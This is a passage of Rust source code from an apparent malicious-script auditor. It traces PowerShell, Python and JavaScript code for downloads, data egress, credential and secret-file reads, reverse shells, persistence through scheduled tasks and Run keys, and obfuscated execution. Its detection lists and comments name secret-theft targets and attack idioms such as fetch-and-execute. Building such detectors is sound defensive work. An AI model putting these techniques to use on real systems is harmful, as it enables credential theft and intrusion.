    fn ps_pipeline_from(&mut self, t: &[Token], mut at: usize, mut input: Val) -> (Val, usize) {
        while punct(t.get(at), "|") {
            let start = at + 1;
            if ident(t.get(start)).is_none() {
                break;
            }
            let (v, next) = self.ps_command(t, start, Some(input));
            input = v;
            at = next;
        }
        (input, at)
    }

    /// `Verb-Noun -Param value positional …` up to a pipe, `;` or the line's end.
    fn ps_command(&mut self, t: &[Token], i: usize, input: Option<Val>) -> (Val, usize) {
        let Some(name) = ident(t.get(i)) else {
            return (Val::unknown("…"), i + 1);
        };
        let name = name.to_ascii_lowercase();
        let mut args = CallArgs::default();
        let mut j = i + 1;
        let mut depth = 0usize;
        while j < t.len() {
            match &t[j].tok {
                Tok::Newline | Tok::Punct(";") | Tok::Punct("|") | Tok::Punct("}") | Tok::Punct(")") if depth == 0 => {
                    break;
                }
                Tok::Param(p) => {
                    let p = p.clone();
                    let value_start = j + 1;
                    let takes = !matches!(
                        t.get(value_start).map(|x| &x.tok),
                        None | Some(Tok::Param(_)) | Some(Tok::Newline) | Some(Tok::Punct("|" | ";"))
                    );
                    if takes {
                        let (first, mut next) = self.ps_argument(t, value_start);
                        // `-ArgumentList '-NoP','-Enc','…'`: a comma makes an array.
                        let v = if punct(t.get(next), ",") {
                            let mut items = vec![first];
                            while punct(t.get(next), ",") && items.len() < 256 {
                                let (item, after) = self.ps_argument(t, next + 1);
                                items.push(item);
                                next = after.max(next + 2);
                            }
                            let mut v = Val::unknown("(…)");
                            v.taint = items.iter().fold(Taint::default(), |acc, item| acc.union(item.taint));
                            v.list = Some(items);
                            v
                        } else {
                            first
                        };
                        args.named.push((p, v));
                        j = next;
                    } else {
                        args.named.push((p, Val::text("true")));
                        j += 1;
                    }
                    continue;
                }
                _ => {}
            }
            let (v, next) = self.ps_argument(t, j);
            args.pos.push(v);
            j = next.max(j + 1);
            depth = 0;
        }
        let span = self.span(t, i, j);
        let v = self.ps_cmdlet(&name, args, input, span);
        (v, j)
    }

    fn ps_argument(&mut self, t: &[Token], j: usize) -> (Val, usize) {
        // A native tool's switch (`schtasks /Create`) is a bare word too.
        let slash_word = punct(t.get(j), "/")
            && matches!(t.get(j + 1).map(|x| &x.tok), Some(Tok::Ident(_)))
            && t.get(j + 1).is_some_and(|next| next.start == t[j].end);
        match t.get(j).map(|x| &x.tok) {
            Some(Tok::Punct(_)) if slash_word => self.bare_word(t, j, true),
            // A bare word is a string (`bun.sh/install.ps1` too), unless it is a call.
            Some(Tok::Ident(_))
                if !punct(t.get(j + 1), "(") && !punct(t.get(j + 1), "::") && !bare_word_is_call(t, j) =>
            {
                self.bare_word(t, j, false)
            }
            // `$cmd /F`: a value, then the next switch, not a division.
            Some(Tok::Var(_) | Tok::Str { .. })
                if punct(t.get(j + 1), "/") && t.get(j + 1).is_some_and(|slash| slash.start > t[j].end) =>
            {
                self.prefix(t, j)
            }
            _ => self.expr(t, j, 1),
        }
    }

    /// The PowerShell bare word from `j` to the first space, as a string: a switch
    /// (`/Create`: letters, `/`, `:`, `-`, `_`) or a word (numbers, dots and the other
    /// characters of paths and URLs too).
    fn bare_word(&self, t: &[Token], j: usize, switch: bool) -> (Val, usize) {
        let mut k = j;
        let mut text = String::new();
        while let Some(tok) = t.get(k) {
            if k > j && tok.start != t[k - 1].end {
                break;
            }
            match &tok.tok {
                Tok::Ident(w) => text.push_str(w),
                Tok::Punct(p) if matches!(*p, "/" | ":" | "-" | "_") => text.push_str(p),
                Tok::Punct(p) if !switch && matches!(*p, "." | "//" | "\\" | "?" | "=" | "&" | "%") => text.push_str(p),
                Tok::Num(_) if !switch => {
                    text.push_str(&self.a.text[tok.start.min(self.a.text.len())..tok.end.min(self.a.text.len())])
                }
                _ => break,
            }
            k += 1;
        }
        (Val::text(text), k.max(j + 1))
    }

    fn ps_cmdlet(&mut self, name: &str, args: CallArgs, input: Option<Val>, span: (usize, usize)) -> Val {
        let piped = input.clone().unwrap_or_default();
        let first = args.pos.first().cloned();
        match name {
            "invoke-expression" | "iex" => {
                let code = args.named("command").cloned().or(first).or(input).unwrap_or_default();
                if !code.exact {
                    // Running whatever arrives: with a socket in the unit, a network shell.
                    self.shell_handoff = Some(span);
                }
                exec(self.a, &code, Lang::PowerShell, span, "Invoke-Expression");
                Val::unknown("…")
            }
            // A script block handed to a cmdlet that runs it: `New-Module -ScriptBlock
            // $sb | Import-Module` runs a module built from a downloaded string.
            "new-module" | "invoke-command" | "icm" | "start-threadjob" => {
                if let Some(block) = args.named("scriptblock").cloned().or(first)
                    && (block.name.as_deref() == Some("scriptblock")
                        || block.taint.has(Taint::FETCHED)
                        || block.taint.hidden())
                {
                    exec(self.a, &block, Lang::PowerShell, span, name);
                }
                Val::unknown("…")
            }
            "join-path" => {
                let mut v = join_vals(&args.pos, "/");
                if let Some(child) = args.named("childpath") {
                    v = concat(&concat(&v, &Val::text("/")), child);
                }
                v.name = Some("path".into());
                v
            }
            "powershell" | "pwsh" | "cmd" | "cmd.exe" | "powershell.exe" | "start-job" => {
                // Another interpreter started with a command line: read it as one.
                let mut words = vec![name.to_string()];
                for v in args.pos.iter() {
                    words.push(v.text.clone());
                }
                for (k, v) in &args.named {
                    words.push(format!("-{k}"));
                    words.push(format!("'{}'", v.text.replace('\'', "''")));
                }
                let line = words.join(" ");
                self.a.nested(&line, Lang::Shell, span.0);
                Val::unknown("…")
            }
            "invoke-webrequest" | "iwr" | "invoke-restmethod" | "irm" | "curl" | "wget" => {
                let url = args.named("uri").cloned().or(first).unwrap_or_default();
                let method = args
                    .named("method")
                    .map(|m| m.text.to_ascii_uppercase())
                    .unwrap_or_default();
                let body = args.named("body").cloned();
                let infile = args.named("infile").cloned();
                let sends = body.is_some() || infile.is_some() || matches!(method.as_str(), "POST" | "PUT" | "PATCH");
                // A placeholder where the address goes (`iwr <url> | iex`, which
                // PowerShell refuses to parse) is a pattern written down, not a fetch.
                if !sends && !url.exact && self.a.text.get(span.0..span.1).is_some_and(url_is_placeholder) {
                    return Val::unknown("…");
                }
                let e = egress(self.a, &url, sends, span);
                let host = split_url(&url.text).map(|(h, _)| h).unwrap_or_default();
                if let Some(body) = &body {
                    flow(self.a, body, e, &host, false, span);
                }
                if let Some(file) = &infile {
                    let content = read_path(self.a, file, span);
                    flow(self.a, &content, e, &host, false, span);
                }
                flow(self.a, &url, e, &host, false, span);
                if let Some(headers) = args.named("headers") {
                    flow(self.a, headers, e, &host, true, span);
                }
                let origin = self.a.emit("fetch", span, url.text.clone(), None);
                if let Some(out) = args.named("outfile") {
                    self.env.insert(
                        format!("fetched:{}", out.text.to_ascii_lowercase()),
                        Val::unknown("").tainted(Taint::of(Taint::FETCHED, origin)),
                    );
                    return Val::unknown("");
                }
                Val::unknown(format!("<{}>", url.text)).tainted(Taint::of(Taint::FETCHED, origin))
            }
            "get-content" | "gc" | "cat" | "type" => {
                let path = args.named("path").cloned().or(first).unwrap_or_default();
                read_path(self.a, &path, span)
            }
            "set-content" | "add-content" | "out-file" | "sc" | "ac" => {
                let path = args
                    .named("path")
                    .cloned()
                    .or(args.named("filepath").cloned())
                    .or(first)
                    .unwrap_or_default();
                let content = args
                    .named("value")
                    .cloned()
                    .or_else(|| args.pos.get(1).cloned())
                    .or(input)
                    .unwrap_or_default();
                write_path(
                    self.a,
                    &path,
                    &content,
                    name.starts_with("add") || args.named("append").is_some(),
                    span,
                );
                Val::unknown("")
            }
            "get-childitem" | "gci" | "ls" | "dir" => {
                let path = args.named("path").cloned().or(first.clone()).unwrap_or_default();
                let lower = path.text.to_ascii_lowercase();
                if lower.starts_with("env:") {
                    let origin = self
                        .a
                        .emit("secret-read/env-dump", span, "every environment variable".into(), None);
                    return Val::unknown("<env>").tainted(Taint::of(Taint::SECRET, origin));
                }
                let filter = args
                    .named("filter")
                    .or(args.named("include"))
                    .map(|f| f.text.to_ascii_lowercase())
                    .unwrap_or_default();
                if args.named("recurse").is_some()
                    && [".env", "id_rsa", ".pem", "wallet", "credentials", ".kdbx"]
                        .iter()
                        .any(|p| filter.contains(p))
                {
                    let origin = self
                        .a
                        .emit("secret-read/env-file", span, format!("searches for {filter}"), None);
                    return Val::unknown("<files>").tainted(Taint::of(Taint::SECRET, origin));
                }
                Val::unknown("<items>")
            }
            "read-host" => {
                let prompt = args
                    .named("prompt")
                    .cloned()
                    .or(first)
                    .unwrap_or_default()
                    .text
                    .to_ascii_lowercase();
                if args.named("assecurestring").is_some()
                    || prompt.contains("password")
                    || prompt.contains("passphrase")
                {
                    return self.prompted(span);
                }
                Val::unknown("<input>")
            }
            "get-credential" => self.prompted(span),
            "get-clipboard" | "gcb" => {
                let origin = self.a.emit("clipboard-read", span, "Get-Clipboard".into(), None);
                Val::unknown("<clipboard>").tainted(Taint::of(Taint::SECRET_ENV, origin))
            }
            "set-clipboard" | "scb" => {
                let e = self.a.emit("egress/clipboard", span, "Set-Clipboard".into(), None);
                let value = args.named("value").cloned().or(first).or(input).unwrap_or_default();
                flow(self.a, &value, e, "", false, span);
                Val::unknown("")
            }
            "resolve-dnsname" => {
                let host = args.named("name").cloned().or(first).unwrap_or_default();
                if !host.exact {
                    let e = self.a.emit("egress/dns", span, host.text.clone(), None);
                    flow(self.a, &host, e, "", false, span);
                }
                Val::unknown("")
            }
            "send-mailmessage" => {
                let e = self.a.emit("egress/email", span, "Send-MailMessage".into(), None);
                for v in args.all() {
                    flow(self.a, v, e, "", false, span);
                }
                Val::unknown("")
            }
            "new-object" => {
                let type_name = args
                    .named("typename")
                    .cloned()
                    .or(first)
                    .unwrap_or_default()
                    .text
                    .to_ascii_lowercase();
                let type_name = type_name.trim_start_matches("system.").to_string();
                if type_name.contains("tcpclient") || type_name.contains("sockets.socket") {
                    self.socket = Some(span);
                    self.a.emit("egress/socket", span, type_name.clone(), None);
                }
                Val::named(format!("type:{type_name}"))
            }
            // BITS downloads to a file as Invoke-WebRequest -OutFile does.
            "start-bitstransfer" => {
                let url = args.named("source").cloned().or(first).unwrap_or_default();
                let dest = args
                    .named("destination")
                    .cloned()
                    .or_else(|| args.pos.get(1).cloned())
                    .unwrap_or_default();
                let origin = self.a.emit("fetch", span, url.text.clone(), None);
                self.env.insert(
                    format!("fetched:{}", dest.text.to_ascii_lowercase()),
                    Val::unknown("").tainted(Taint::of(Taint::FETCHED, origin)),
                );
                Val::unknown("")
            }
            "start-process" | "saps" | "start" => {
                let file = args.named("filepath").cloned().or(first).unwrap_or_default();
                let fetched = self
                    .env
                    .get(&format!("fetched:{}", file.text.to_ascii_lowercase()))
                    .map(|v| v.taint);
                if let Some(taint) = fetched {
                    exec(
                        self.a,
                        &file.clone().tainted(taint),
                        Lang::PowerShell,
                        span,
                        "starts a file it downloaded",
                    );
                }
                if let Some(list) = args.named("argumentlist") {
                    // `-ArgumentList '-NoP','-Enc','…'`: the array's items are the words.
                    let words = match &list.list {
                        Some(items) => items.iter().map(|v| v.text.as_str()).collect::<Vec<_>>().join(" "),
                        None => list.text.clone(),
                    };
                    let line = format!("{} {}", file.text, words);
                    self.a.nested(&line, Lang::Shell, span.0);
                }
                Val::unknown("")
            }
            // The native tool called from PowerShell: `/Create … /TR command`; `/Delete`
            // and `/Query` create nothing.
            "schtasks" => {
                let positional: Vec<&Val> = args.all().collect();
                if positional.iter().any(|v| v.text.eq_ignore_ascii_case("/create")) {
                    let action = positional
                        .iter()
                        .position(|v| v.text.eq_ignore_ascii_case("/tr"))
                        .and_then(|i| positional.get(i + 1))
                        .map(|v| (*v).clone())
                        .unwrap_or_default();
                    effects::persist(self.a, "scheduled-task", &action, span, "creates a scheduled task");
                }
                Val::unknown("")
            }
            "register-scheduledtask" | "new-scheduledtaskaction" => {
                let action = args
                    .named("argument")
                    .cloned()
                    .or(args.named("execute").cloned())
                    .unwrap_or_default();
                effects::persist(self.a, "scheduled-task", &action, span, "creates a scheduled task");
                Val::unknown("")
            }
            "new-itemproperty" | "set-itemproperty" => {
                let path = args
                    .named("path")
                    .cloned()
                    .unwrap_or_default()
                    .text
                    .to_ascii_lowercase();
                if path.contains("\\run") || path.contains("winlogon") {
                    let value = args.named("value").cloned().unwrap_or_default();
                    effects::persist(self.a, "windows-run", &value, span, "adds a Run key");
                }
                Val::unknown("")
            }
            "write-output" | "echo" | "write-host" => first.unwrap_or(piped),
            "foreach-object" | "%" | "where-object" | "?" | "select-object" | "sort-object" | "out-string" => piped,
            _ => {
                let mut v = Val::unknown(format!("<{name}>"));
                v.taint = piped.taint.union(args.taint());
                v.taint.bits &= Taint::CARRIED;
                v
            }
        }
    }

    /// A call of `callee` (a resolved name, or a function value).
    fn call(&mut self, callee: Val, args: CallArgs, span: (usize, usize), t: &[Token], _at: usize) -> Val {
        let Some(name) = callee.name.clone() else {
            return Val::unknown("…").tainted(args.taint());
        };
        if name.starts_with("lambda:") {
            let arg = args.pos.first().cloned().unwrap_or_default();
            return self.apply(&callee, arg, t).unwrap_or_default();
        }
        // `threading.Thread(target=handle, args=(conn,))`, `Process(…)` and
        // `pool.submit(handle, conn)`: the function runs with those arguments.
        let lower_name = name.to_ascii_lowercase();
        // `f.bind(obj)` is `f`: a bound function runs the same code.
        if self.lang == Lang::JavaScript
            && let Some(function) = name.strip_suffix(".bind")
        {
            let mut bound = callee.clone();
            bound.name = Some(function.to_string());
            return bound;
        }
        let started = if matches!(
            lower_name.as_str(),
            "threading.thread" | "thread" | "multiprocessing.process" | "process" | "threading.timer" | "timer"
        ) {
            args.named.iter().find(|(n, _)| n == "target").map(|(_, f)| {
                let pos = match args.named.iter().find(|(n, _)| n == "args") {
                    Some((_, v)) => v.list.clone().unwrap_or_else(|| vec![v.clone()]),
                    None => Vec::new(),
                };
                (f.clone(), pos)
            })
        } else if lower_name.ends_with(".submit") || lower_name.ends_with(".apply_async") {
            args.pos.first().map(|f| (f.clone(), args.pos[1..].to_vec()))
        } else {
            None
        };
        if let Some((target, pos)) = started
            && let Some(function) = target
                .name
                .as_deref()
                .filter(|n| n.starts_with("fn:"))
                .and_then(|n| self.functions.get(n).cloned())
        {
            let started_args = CallArgs { pos, named: Vec::new() };
            self.apply_function(&function, &started_args, span);
            return Val::named("thread");
        }
        let defined = if name.starts_with("fn:") {
            self.functions.get(&name).cloned()
        } else if let Some(method) = name.strip_prefix("self.").or_else(|| name.strip_prefix("this.")) {
            self.functions.get(&format!("fn:{method}")).cloned()
        } else {
            None
        };
        if let Some(function) = defined {
            if let Some(v) = self.inline_call(&function, &args) {
                // The sinks inside still see the call's arguments.
                self.apply_function(&function, &args, span);
                return v;
            }
            let mut v = self.apply_function(&function, &args, span);
            // A helper handed a cloud metadata credentials URL returns the credentials.
            if let Some(url) = args
                .pos
                .first()
                .filter(|url| super::tables::is_cloud_credential_url(&url.text))
            {
                let origin = self.a.emit("secret-read/cloud-metadata", span, url.text.clone(), None);
                v.taint = v.taint.union(Taint::of(Taint::SECRET, origin));
            }
            return v;
        }
        let lower = global_name(&lower_name, self.lang);
        let callee_hidden = callee.taint.hidden();
        let read = self.secret_arguments(&lower, &args, span);
        let mut v = self.named_call(&lower, &args, span, t);
        if let Some(taint) = read {
            v.taint = v.taint.union(taint);
        }
        if callee_hidden {
            // A function reached through a computed name (`getattr(os, 'sys'+'tem')`).
            let sink = [
                "system",
                "popen",
                "exec",
                "eval",
                "spawn",
                "call",
                "run",
                "check_output",
                "execsync",
            ]
            .iter()
            .any(|s| lower.ends_with(s));
            if sink && self.a.reveals(&lower) {
                // The name was assembled to hide what is called: that is the finding,
                // whatever the argument.
                let code = args.pos.first().cloned().unwrap_or_default();
                let shown: String = code.text.chars().take(100).collect();
                self.a.emit(
                    "exec/computed",
                    span,
                    format!("{name}, a name assembled at run time: {shown}"),
                    None,
                );
                let lang = if lower.contains("exec") || lower.contains("eval") {
                    self.lang
                } else {
                    Lang::Shell
                };
                if code.exact && !code.text.is_empty() {
                    self.a.nested(&code.text.clone(), lang, span.0);
                }
            }
        }
        v
    }

    fn named_call(&mut self, name: &str, args: &CallArgs, span: (usize, usize), t: &[Token]) -> Val {
        let first = args.pos.first().cloned().unwrap_or_default();
        let last = name.rsplit('.').next().unwrap_or(name);
        let lang = self.lang;
        // Run code.
        match name {
            // `types.FunctionType(compile(src, …), globals)()`: a function made of the
            // compiled code, to be called.
            "types.functiontype" | "functiontype" if lang == Lang::Python => {
                exec_in_process(self.a, &first, Lang::Python, span, name);
                return Val::named("fn:compiled");
            }
            "exec" | "eval" | "builtins.exec" | "builtins.eval" | "compile" | "execfile" if lang == Lang::Python => {
                if name == "compile" {
                    let mut v = first.clone();
                    v.name = None;
                    return v;
                }
                exec_in_process(self.a, &first, Lang::Python, span, name);
                return Val::unknown("…");
            }
            // `new module.constructor()`: a module to compile code into.
            _ if lang == Lang::JavaScript && last == "constructor" && args.pos.is_empty() => {
                return Val::named(name.to_string());
            }
            _ if lang == Lang::JavaScript
                && (last == "constructor" || last == "_compile" || name == "vm.compilefunction")
                && !args.pos.is_empty() =>
            {
                // `[].filter['constructor'](code)` is `Function`; `m._compile(code)` and
                // `vm.compileFunction(code)` compile a module or function from text.
                let code = if last == "_compile" || name == "vm.compilefunction" {
                    first.clone()
                } else {
                    args.pos.last().cloned().unwrap_or_default()
                };
                exec(self.a, &code, Lang::JavaScript, span, name);
                return Val::named("fn:compiled");
            }
            "eval"
            | "function"
            | "vm.runinthiscontext"
            | "vm.runinnewcontext"
            | "vm.runincontext"
            | "vm.script"
            | "settimeout"
            | "setinterval"
            | "execscript"
                if lang == Lang::JavaScript =>
            {
                if (last == "settimeout" || last == "setinterval") && first.name.is_some() {
                    return Val::unknown("…");
                }
                // `new Function('require', body)`: the body is the last argument.
                let code = if name == "function" {
                    args.pos.last().cloned().unwrap_or_default()
                } else {
                    first.clone()
                };
                // A timer given a function runs that function, not text.
                if last == "settimeout" || last == "setinterval" {
                    exec(self.a, &code, Lang::JavaScript, span, name);
                } else {
                    exec_in_process(self.a, &code, Lang::JavaScript, span, name);
                }
                return Val::unknown("…");
            }
            _ => {}
        }
        if matches!(
            name,
            "pickle.loads"
                | "cpickle.loads"
                | "dill.loads"
                | "cloudpickle.loads"
                | "marshal.loads"
                | "yaml.unsafe_load"
        ) {
            // Deserialising runs code: what was decoded or fetched to feed it is code run.
            if name != "marshal.loads" && (first.taint.hidden() || first.taint.has(Taint::FETCHED)) {
                exec(self.a, &first, Lang::Python, span, name);
            }
            let mut v = Val::unknown(format!("<{name}>"));
            v.taint = first.taint.union(Taint::of(Taint::DECODED, None));
            return v;
        }
        if let Some(command) = shell_runner(name) {
            let mut line = match (&first.list, args.named("args")) {
                (Some(list), _) => argv_line(list),
                (None, Some(a)) if a.list.is_some() => argv_line(a.list.as_deref().unwrap_or_default()),
                _ => first.clone(),
            };
            // `spawn(cmd, [args])`, `execFile(cmd, [args])`.
            if let Some(rest) = args.pos.get(1).and_then(|a| a.list.clone()) {
                line = concat(&concat(&line, &Val::text(" ")), &argv_line(&rest));
            }
            let shell_like = line.text.split_whitespace().next().is_some_and(|w| {
                matches!(
                    w.rsplit('/').next().unwrap_or(w),
                    "sh" | "bash" | "zsh" | "cmd" | "cmd.exe" | "powershell" | "pwsh"
                )
            });
            if shell_like && line.text.split_whitespace().count() <= 2 {
                // A bare shell started: what it is handed decides (a socket makes a
                // network shell).
                self.shell_handoff = Some(span);
            }
            if command == "pty" {
                self.shell_handoff = Some(span);
            }
            if reverse_shell_text(&line.text) {
                self.a
                    .emit("network-shell", span, format!("{name} runs a reverse shell"), None);
            }
            // A file the unit downloaded, run (directly or by an interpreter).
            if let Some((_, taint)) = self
                .fetched_files
                .iter()
                .find(|(f, _)| !f.is_empty() && line.text.contains(f.as_str()))
                .cloned()
            {
                let run = line.clone().tainted(taint);
                exec(self.a, &run, Lang::Shell, span, "runs a file it downloaded");
            }
            let output = exec(self.a, &line, Lang::Shell, span, name);
            return Val::unknown(format!("<{name}>")).tainted(Taint::of(
                (line.taint.bits & (Taint::SECRET | Taint::PARAMS)) | (output.taint.bits & Taint::CARRIED),
                line.taint.origin.or(output.taint.origin),
            ));
        }
        if matches!(name, "os.dup2" | "os.dup") {
            self.shell_handoff = Some(span);
            return Val::unknown("…");
        }
        // Decoders and builders.
        match last {
            "b64decode" | "standard_b64decode" | "urlsafe_b64decode" | "decodebytes" | "decodestring"
            | "a2b_base64" | "atob" => {
                return self.decode(&first, "base64", span);
            }
            "b32decode" => {
                let taint = first.taint.union(Taint::of(Taint::DECODED, None));
                return match base32_bytes(first.text.trim()) {
                    Some(bytes) if first.exact => self.decoded(bytes, taint, "base32", span),
                    _ => Val::unknown("<decoded>").tainted(taint),
                };
            }
            "b85decode" | "a85decode" | "decompress" if !matches!(name, "zlib.decompress" | "gzip.decompress") => {
                return Val::unknown("<decoded>").tainted(first.taint.union(Taint::of(Taint::DECODED, None)));
            }
            "fromhex" | "unhexlify" | "a2b_hex" => return self.decode(&first, "hex", span),
            "inflatesync" | "gunzipsync" | "inflaterawsync" | "unzipsync" => return self.decode(&first, "zlib", span),
            "frombase64string" => return self.decode(&first, "base64", span),
            "fromcharcode" => {
                let items: Vec<Val> = match (&first.list, args.pos.len()) {
                    (Some(list), 1) => list.clone(),
                    _ => args.pos.clone(),
                };
                return self.chars(&items);
            }
            "apply" | "call" if name.ends_with("fromcharcode.apply") || name.ends_with("fromcharcode.call") => {
                // `String.fromCharCode.apply(null, codes)`.
                let items: Vec<Val> = match args.pos.get(1).and_then(|a| a.list.clone()) {
                    Some(list) if name.ends_with("apply") => list,
                    _ => args.pos.iter().skip(1).cloned().collect(),
                };
                return self.chars(&items);
            }
            "recv" | "recvfrom" | "recv_into" | "read_until" => {
                // What a socket receives is what the network sent.
                let origin = self.a.emit("fetch", span, format!("{name}: network input"), None);
                return Val::unknown("<received>").tainted(Taint::of(Taint::FETCHED, origin));
            }
            "chr" | "unichr" if lang == Lang::Python => return self.chars(std::slice::from_ref(&first)),
            "getstring" => {
                // `[Text.Encoding]::Unicode.GetString($bytes)`: UTF-16 when named so.
                let mut v = if name.contains("unicode") {
                    let bytes = chars_of(&first);
                    let text = crate::audit::text::utf16(&bytes).unwrap_or_else(|| first.text.clone());
                    Val::text(text)
                } else {
                    let mut v = first.clone();
                    v.bytes = false;
                    if let Ok(text) = String::from_utf8(chars_of(&first)) {
                        v.text = text;
                    }
                    v
                };
                v.taint = v.taint.union(first.taint);
                v.exact = first.exact;
                return v;
            }
            _ => {}
        }
        match name {
            "zlib.decompress" | "gzip.decompress" => return self.decode(&first, "zlib", span),
            "codecs.decode" | "codecs.encode" => {
                let encoding = args
                    .get(1, "encoding")
                    .map(|v| v.text.to_ascii_lowercase())
                    .unwrap_or_default();
                return match encoding.replace('-', "_").as_str() {
                    "rot13" | "rot_13" => {
                        let mut v = Val::text(super::decode::rot13(&first.text));
                        v.exact = first.exact;
                        v.taint = first.taint.union(Taint::of(Taint::COMPUTED, None));
                        self.a.derive(&v.text.clone(), "rot13", span.0);
                        v
                    }
                    "hex" | "hex_codec" => self.decode(&first, "hex", span),
                    "base64" | "base64_codec" => self.decode(&first, "base64", span),
                    "zlib" | "zlib_codec" => self.decode(&first, "zlib", span),
                    _ => first,
                };
            }
            "decodeuricomponent" | "unescape" | "urllib.parse.unquote" | "unquote" => {
                let mut v =
                    Val::text(String::from_utf8_lossy(&super::decode::percent_bytes(&first.text, false)).into_owned());
                v.exact = first.exact;
                v.taint = first.taint.union(Taint::of(Taint::COMPUTED, None));
                return v;
            }
            "buffer.from" => {
                let encoding = args.pos.get(1).map(|v| v.text.to_ascii_lowercase()).unwrap_or_default();
                return match encoding.as_str() {
                    "base64" | "base64url" => self.decode(&first, "base64", span),
                    "hex" => self.decode(&first, "hex", span),
                    _ => {
                        if let Some(list) = &first.list {
                            let bytes: Vec<u8> = list.iter().filter_map(num).map(|n| n as u8).collect();
                            return from_bytes(bytes, first.taint.union(Taint::of(Taint::COMPUTED, None)));
                        }
                        let mut v = first;
                        v.bytes = true;
                        v
                    }
                };
            }
            "str.maketrans" | "bytes.maketrans" | "string.maketrans" | "bytearray.maketrans" => {
                // A translation table, kept to fold `s.translate(table)`.
                let second = args.pos.get(1).cloned().unwrap_or_default();
                let mut v = Val::unknown("<table>");
                if first.exact && second.exact && first.text.chars().count() == second.text.chars().count() {
                    v.fields = Some(vec![("translate".into(), first.clone()), ("into".into(), second)]);
                }
                return v;
            }
            "bytes" | "bytearray" => {
                if let Some(list) = &first.list {
                    let bytes: Vec<u8> = list.iter().filter_map(num).map(|n| n as u8).collect();
                    let whole = bytes.len() == list.len();
                    let mut v = from_bytes(bytes, first.taint.union(Taint::of(Taint::COMPUTED, None)));
                    // A byte the audit could not compute leaves the text unknown.
                    v.exact &= whole && first.exact;
                    return v;
                }
                return first;
            }
            // `json.dump(obj, handle)`: the object, serialised, written through the handle.
            "json.dump" | "yaml.dump" | "yaml.safe_dump" | "toml.dump" | "tomli_w.dump"
                if args
                    .pos
                    .get(1)
                    .is_some_and(|h| h.name.as_deref().is_some_and(|n| n.starts_with("file-write:"))) =>
            {
                let handle = args.pos.get(1).cloned().unwrap_or_default();
                let path = field(&handle, "path").cloned().unwrap_or_default();
                let mut content = Val::text(to_json(&first));
                content.taint = first.taint;
                content.exact = first.exact || first.fields.is_some();
                write_path(
                    self.a,
                    &path,
                    &content,
                    handle.name.as_deref().is_some_and(|n| n.ends_with(":a")),
                    span,
                );
                return Val::unknown("");
            }
            "str" | "string" | "repr" | "list" | "tuple" | "array.from" | "json.loads" | "json.parse"
            | "json.dumps" | "json.dump" | "json.stringify" | "yaml.dump" | "yaml.safe_dump" | "pprint.pformat"
            | "object.entries" | "object.keys" | "object.values" | "util.inspect" | "pickle.dumps" | "sorted" => {
                // Serialised or listed: every variable's value leaves as one text.
                if matches!(first.name.as_deref(), Some(n) if is_whole_environment(n)) {
                    return self.whole_environment(span);
                }
                if matches!(
                    name,
                    "json.dumps" | "json.stringify" | "str" | "repr" | "yaml.dump" | "pickle.dumps"
                ) {
                    let mut v = Val::unknown(format!("<{name}>"));
                    v.taint = first.taint;
                    if first.exact && first.fields.is_none() && first.list.is_none() {
                        v.text = first.text.clone();
                        v.exact = true;
                    }
                    return v;
                }
                if name == "array.from" && first.list.is_none() && first.exact {
                    let mut v = Val::unknown("[…]");
                    v.taint = first.taint;
                    v.list = Some(spread(&first));
                    return v;
                }
                if name == "sorted"
                    && let Some(list) = &first.list
                {
                    // By number, else by text; pairs by their first item.
                    let sort_key = |v: &Val| {
                        let head = v.list.as_ref().and_then(|l| l.first()).unwrap_or(v);
                        (head.num.unwrap_or(f64::INFINITY), head.text.clone())
                    };
                    let mut sorted = list.clone();
                    sorted.sort_by(|a, b| {
                        let (ka, kb) = (sort_key(a), sort_key(b));
                        ka.0.total_cmp(&kb.0).then(ka.1.cmp(&kb.1))
                    });
                    let mut v = first.clone();
                    v.list = Some(sorted);
                    return v;
                }
                return first;
            }
            "dict" | "copy.copy" | "copy.deepcopy" | "object.assign" | "structuredclone" => {
                // A copy of the environment is still the environment, not yet sent anywhere.
                return first;
            }
            "reversed" => {
                let mut v = first.clone();
                match &first.list {
                    Some(list) => v.list = Some(list.iter().rev().cloned().collect()),
                    None => v.text = first.text.chars().rev().collect(),
                }
                v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                return v;
            }
            "map" => {
                let function = first;
                let items = args.pos.get(1).cloned().unwrap_or_default();
                let list = items.list.clone().unwrap_or_default();
                let mapped: Vec<Val> = if function
                    .name
                    .as_deref()
                    .is_some_and(|n| n == "chr" || n.ends_with(".chr"))
                {
                    list.iter().map(|item| self.chars(std::slice::from_ref(item))).collect()
                } else {
                    list.iter()
                        .take(MAX_LIST)
                        .map(|item| self.apply(&function, item.clone(), t).unwrap_or_default())
                        .collect()
                };
                // Characters made from numbers are assembled; any other mapping carries
                // what its results carry.
                let chars = function
                    .name
                    .as_deref()
                    .is_some_and(|n| n == "chr" || n.ends_with(".chr"));
                let mut v = Val::unknown("map(…)");
                v.taint = mapped.iter().fold(items.taint, |t, m| t.union(m.taint));
                if chars {
                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                }
                v.list = Some(mapped);
                return v;
            }
            "getattr" => {
                let object = first;
                let attribute = args.pos.get(1).cloned().unwrap_or_default();
                let base = object.name.clone().unwrap_or_else(|| object.text.clone());
                let mut v = Val::named(format!("{base}.{}", attribute.text));
                v.taint = object.taint.union(attribute.taint);
                if attribute.taint.hidden() || !attribute.exact {
                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                }
                return v;
            }
            "__import__" | "importlib.import_module" | "require" | "import" => {
                let module = first.text.trim_start_matches("node:").to_string();
                let mut v = Val::named(module);
                if first.taint.hidden() || !first.exact {
                    v.taint = Taint::of(Taint::COMPUTED, None);
                }
                return v;
            }
            "globals" | "locals" | "vars" => return Val::named("globals"),
            "os.getenv" | "os.environ.get" | "getenv" | "environ.get" | "process.env.get" => {
                return self.env_var_or_default(&first.text, args.pos.get(1), span);
            }
            "os.path.expanduser" | "os.path.expandvars" | "os.path.abspath" | "os.path.normpath" | "path.resolve"
            | "path.normalize" => {
                let mut v = first.clone();
                v.text = v.text.replace("$HOME", "~").replace("${HOME}", "~");
                v.name = Some("path".into());
                return v;
            }
            "os.path.join" | "path.join" | "path.resolve.join" | "pathlib.path.joinpath" | "join-path" => {
                let mut v = join_vals(&args.pos, "/");
                v.name = Some("path".into());
                return v;
            }
            "os.homedir" | "os.path.expanduser.home" | "pathlib.path.home" | "path.home" | "os.userinfo" => {
                let mut v = Val::text("~");
                v.name = Some("path".into());
                return v;
            }
            // The working directory: the project the skill was started in.
            "os.getcwd" | "pathlib.path.cwd" | "path.cwd" | "process.cwd" | "deno.cwd" | "get-location" | "pwd" => {
                let mut v = Val::text(".");
